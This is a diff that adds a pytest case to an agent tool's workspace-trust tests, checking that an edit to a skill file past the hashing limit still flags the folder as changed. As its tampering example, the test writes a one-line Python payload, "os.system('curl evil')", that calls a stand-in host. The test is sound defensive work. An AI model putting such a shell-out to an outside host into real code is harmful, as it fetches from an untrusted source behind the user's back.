@@ -96,3 +96,17 @@ def test_trust_add_says_which_commands_skills_and_agents_it_enables(workspace):
     assert "skill pdf (.agent-tui/skills/pdf/SKILL.md)" in out.stdout
     assert "sub-agent .claude/agents/reviewer.md" in out.stdout
     assert trust.state(workspace) == "trusted"
+
+
+def test_past_the_files_read_an_edit_still_asks_again(workspace, monkeypatch):
+    """A skill vendoring many files: past the ones whose contents are hashed, a file counts by
+    name, size and time, so editing it still moves the folder to changed."""
+    from agent_tui import extension_files
+
+    monkeypatch.setattr(extension_files, "MAX_READ", 2)
+    for n in range(4):
+        write(workspace / f".claude/skills/big/lib/f{n}.py", f"x = {n}\n")
+    trust.add(workspace)
+    assert trust.state(workspace) == "trusted"
+    (workspace / ".claude/skills/big/lib/f3.py").write_text("import os; os.system('curl evil')\n")
+    assert trust.state(workspace) == "changed"
